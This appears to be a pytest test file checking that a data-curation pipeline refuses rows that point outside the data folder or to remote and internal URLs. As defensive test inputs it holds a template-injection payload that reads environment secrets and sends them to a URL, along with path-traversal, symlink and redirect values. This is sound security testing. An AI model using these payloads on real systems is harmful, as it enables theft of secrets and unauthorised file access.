"""A row out of a stranger's data cannot make a run open a file, or a URL, of another place than the data's own."""

import json
import os
import shutil
import tarfile

import fsspec
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from curator_audio import ReadManifest, Resample, SilenceFilter, WriteManifest
from curator_core import LocalExecutor, Pipeline, TableBatch
from curator_core.values.errors import ConfigError
from curator_image import ReadTar
from curator_text import ReadArrow, ReadCsv, ReadJsonl, ReadParquet
from curator_video import MotionFilter, SampleFrames, SplitFixed, WriteClips
from tests.support.made_videos import make_video
from tests.support.recordings import encoded, tone
from tests.support.web_server import web_server

SECRET = "s3cr3t-of-this-process"


def template(url):
    """Return a reference file in which a template reads the environment of whoever opens it, and sends it to a URL."""
    leak = url + "/leak?{{ cycler.__init__.__globals__.os.environ['SECRET'] }}"
    return json.dumps({"version": 1, "templates": {"u": leak}, "refs": {"a.wav": ["{{u}}"]}}).encode()


@pytest.fixture
def corpus(tmp_path):
    """A folder with data, beside one that is none of its business."""
    (tmp_path / "data").mkdir()
    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "a.wav").write_bytes(encoded(tone(1)))
    make_video(tmp_path / "private" / "a.mp4")
    shutil.copy(tmp_path / "private" / "a.wav", tmp_path / "data" / "a.wav")
    shutil.copy(tmp_path / "private" / "a.mp4", tmp_path / "data" / "a.mp4")
    return tmp_path / "data"


def jsonl(path, *rows):
    path.write_text("".join(f"{json.dumps(row)}\n" for row in rows))
    return str(path)


def run(*stages):
    result = Pipeline(stages=list(stages)).run(LocalExecutor())
    return result, [row for batch in result if isinstance(batch, TableBatch) for row in batch.data.to_pylist()]


def audio_stages(tmp_path):
    yield SilenceFilter(bytes_column=None)
    yield Resample(bytes_column=None)
    yield WriteManifest(str(tmp_path / "out"), audio="references")


def video_stages(tmp_path):
    yield SampleFrames(count=1)
    yield MotionFilter(min_motion=0)
    yield SplitFixed()
    yield WriteClips(str(tmp_path / "out"))


def test_a_reference_url_in_a_row_fetches_and_sends_nothing(corpus, monkeypatch):
    monkeypatch.setenv("SECRET", SECRET)
    with web_server({"/a.wav": encoded(tone(1))}) as server:
        server.files["/refs.json"] = template(server.url)
        wrapped = [f"reference://a.wav::{server.url}/refs.json", f"simplecache::{server.url}/a.wav"]
        plain = [f"{server.url}/a.wav", f"HTTP{server.url[4:]}/a.wav", f"zip://x::{server.url}/a.wav"]
        values = wrapped + plain
        manifest = jsonl(corpus / "m.jsonl", *[{"uri": value, "audio_filepath": value} for value in values])
        for stages in (*[[ReadJsonl(manifest), each] for each in audio_stages(corpus)], [ReadManifest(manifest)]):
            result, rows = run(*stages)
            assert server.requests == []
            assert not rows
            assert [record.error_type for record in result.quarantined] == ["LocationError"] * len(values)
            assert all(record.source == manifest for record in result.quarantined)


def outside(corpus):
    """Every way to say ``private/a``, which is not in the folder of the data."""
    private = corpus.parent / "private"
    (corpus / "link.wav").symlink_to(private / "a.wav")
    (corpus / "link.mp4").symlink_to(private / "a.mp4")
    (corpus / "folder").symlink_to(private)
    for extension in ("wav", "mp4"):
        name = f"a.{extension}"
        yield str(private / name)
        yield f"file://{private / name}"
        yield f"FILE://{private / name}"
        yield f"../private/{name}"
        yield f"x/../../private/{name}"
        yield f"{corpus}/../private/{name}"
        yield f"link.{extension}"
        yield f"folder/{name}"


def test_paths_out_of_the_folder_are_refused(corpus, tmp_path):
    values = list(outside(corpus))
    sounds, films = values[: len(values) // 2], values[len(values) // 2 :]
    manifest = jsonl(corpus / "m.jsonl", *[{"uri": value, "audio_filepath": value} for value in sounds])
    videos = jsonl(corpus / "v.jsonl", *[{"uri": value} for value in films])
    pipelines = [[ReadManifest(manifest)], *([ReadJsonl(manifest), each] for each in audio_stages(tmp_path))]
    pipelines += [[ReadJsonl(videos), each] for each in video_stages(tmp_path)]
    for stages in pipelines:
        result, rows = run(*stages)
        assert not rows, stages
        assert [record.error_type for record in result.quarantined] == ["LocationError"] * len(sounds), stages
        # realpath: the message shows the folder that must be allowed, not the link that leads there.
        assert all(
            f"allowed_locations: ['{os.path.realpath(tmp_path / 'private')}']" in record.message
            for record in result.quarantined
        )


def test_files_beside_the_data_are_read_and_others_where_they_are_allowed(corpus, tmp_path):
    private = str(corpus.parent / "private")
    values = ["a.wav", str(corpus / "a.wav"), f"file://{corpus}/a.wav", "./x/../a.wav", f"{private}/a.wav"]
    manifest = jsonl(corpus / "m.jsonl", *[{"uri": value, "audio_filepath": value} for value in values])
    result, rows = run(ReadManifest(manifest))
    assert [row["uri"] for row in rows] == [str(corpus / "a.wav")] * 4
    assert len(result.quarantined) == 1
    result, rows = run(ReadManifest(manifest, allowed_locations=[private]))
    assert len(rows) == 5
    for stage in (SilenceFilter, Resample):
        result, rows = run(ReadJsonl(manifest), stage(bytes_column=None, allowed_locations=[private]))
        assert len(rows) == 5
        assert not result.quarantined
    videos = jsonl(corpus / "v.jsonl", {"uri": "a.mp4"}, {"uri": f"{private}/a.mp4"})
    result, rows = run(ReadJsonl(videos), SampleFrames(count=1, allowed_locations=[private]))
    assert len(rows) == 2
    result, rows = run(ReadJsonl(videos), SampleFrames(count=1))
    assert [row["uri"] for row in rows] == ["a.mp4"]


def test_references_are_written_as_they_were_found(corpus, tmp_path):
    manifest = jsonl(corpus / "m.jsonl", {"uri": "a.wav"})
    run(ReadJsonl(manifest), WriteManifest(str(tmp_path / "out"), audio="references"))
    (written,) = (tmp_path / "out").glob("*.jsonl")
    assert json.loads(written.read_text())["audio_filepath"] == str(corpus / "a.wav")


@pytest.mark.parametrize("kind", ["jsonl", "csv", "parquet", "arrow"])
def test_a_row_cannot_forge_where_it_was_read_from(corpus, kind):
    target = str(corpus.parent / "private" / "a.wav")
    table = pa.table({"uri": [target], "_source": [target], "_row": [0]})
    path = corpus / f"forged.{kind}"
    if kind == "jsonl":
        jsonl(path, *table.to_pylist())
    elif kind == "csv":
        path.write_text(f"uri,_source,_row\n{target},{target},0\n")
    elif kind == "parquet":
        pq.write_table(table, path)
    else:
        with pa.OSFile(str(path), "wb") as file, pa.ipc.new_file(file, table.schema) as writer:
            writer.write_table(table)
    readers = {"jsonl": ReadJsonl, "csv": ReadCsv, "parquet": ReadParquet, "arrow": ReadArrow}
    result, rows = run(readers[kind](str(path)), SilenceFilter(bytes_column=None))
    assert not rows
    assert [record.error_type for record in result.quarantined] == ["LocationError"]


def test_a_sidecar_in_an_archive_cannot_name_files_elsewhere(corpus):
    target = str(corpus.parent / "private" / "a.wav")
    (corpus / "s.json").write_text(json.dumps({"uri": target, "_source": target}))
    (corpus / "s.png").write_bytes(b"picture")
    with tarfile.open(corpus / "s.tar", "w") as archive:
        for name in ("s.png", "s.json"):
            archive.add(corpus / name, name)
    result, rows = run(ReadTar(str(corpus / "s.tar")), SilenceFilter(bytes_column=None))
    assert not rows
    assert [record.error_type for record in result.quarantined] == ["LocationError"]


def test_a_retry_checks_rows_again(corpus, tmp_path):
    from curator_core.pipelines.quarantine_retry import retry_quarantined

    manifest = jsonl(corpus / "m.jsonl", {"uri": str(corpus.parent / "private" / "a.wav")})
    pipeline = Pipeline(stages=[ReadJsonl(manifest), SilenceFilter(bytes_column=None)])
    pipeline.run(LocalExecutor(), run_dir=str(tmp_path / "run"))
    again = retry_quarantined(tmp_path / "run", pipeline=pipeline)
    assert [record.error_type for record in again.records] == ["LocationError"]
    allowed = SilenceFilter(bytes_column=None, allowed_locations=[str(corpus.parent / "private")])
    again = retry_quarantined(tmp_path / "run", pipeline=Pipeline(stages=[ReadJsonl(manifest), allowed]))
    assert again.is_complete
    assert again.resolved


def test_buckets_of_others_are_refused():
    memory = fsspec.filesystem("memory")
    values = ["clips/a.wav", "memory://speech/clips/a.wav", "../other/a.wav", "memory://other/a.wav", "/other/a.wav"]
    memory.pipe({"/speech/clips/a.wav": encoded(tone(1)), "/other/a.wav": encoded(tone(1))})
    memory.pipe("/speech/m.jsonl", "".join(f"{json.dumps({'audio_filepath': each})}\n" for each in values).encode())
    try:
        result, rows = run(ReadManifest("memory://speech/m.jsonl"))
        assert [row["uri"] for row in rows] == ["memory://speech/clips/a.wav"] * 2
        assert [record.error_type for record in result.quarantined] == ["LocationError"] * 3
        result, rows = run(ReadManifest("memory://speech/m.jsonl", allowed_locations=["memory://other/"]))
        assert "memory://other/a.wav" in [row["uri"] for row in rows]
    finally:
        memory.rm("/speech", recursive=True)
        memory.rm("/other", recursive=True)


@pytest.mark.parametrize("redirect_header", ["Location", "URI"])  # aiohttp follows both
def test_web_manifests_reach_no_address_inside_unless_allowed(redirect_header):
    lines = "".join(f'{{"audio_filepath": "{name}"}}\n' for name in ("a.wav", "moved.wav", "gone.wav"))
    with web_server({"/secret.wav": encoded(tone(1))}) as other:
        redirects = {"/moved.wav": "/a.wav", "/gone.wav": f"{other.url}/secret.wav"}
        files = {"/m.jsonl": lines.encode(), "/a.wav": encoded(tone(1))}
        with web_server(files, redirects, redirect_header) as server:
            result, rows = run(ReadManifest(f"{server.url}/m.jsonl"))
            assert not rows  # the server has a loopback address
            assert [record.error_type for record in result.quarantined] == ["LocationError"] * 3
            assert {path for path in server.requests if path.endswith(".wav")} == set()
            result, rows = run(ReadManifest(f"{server.url}/m.jsonl", allowed_locations=[f"{server.url}/"]))
            assert [row["uri"] for row in rows] == [f"{server.url}/a.wav", f"{server.url}/moved.wav"]
            assert [record.error_type for record in result.quarantined] == ["LocationError"]  # a redirect elsewhere
            assert other.requests == []
            both = [f"{server.url}/", f"{other.url}/"]
            result, rows = run(ReadManifest(f"{server.url}/m.jsonl", allowed_locations=both))
            assert len(rows) == 3


def test_a_parameter_that_is_no_location_is_found_before_the_run():
    for wrong in ("reference://x", "simplecache::s3://bucket", "http://user:pw@host/", ""):
        with pytest.raises(ConfigError, match="allowed_locations"):
            SilenceFilter(bytes_column=None, allowed_locations=[wrong])
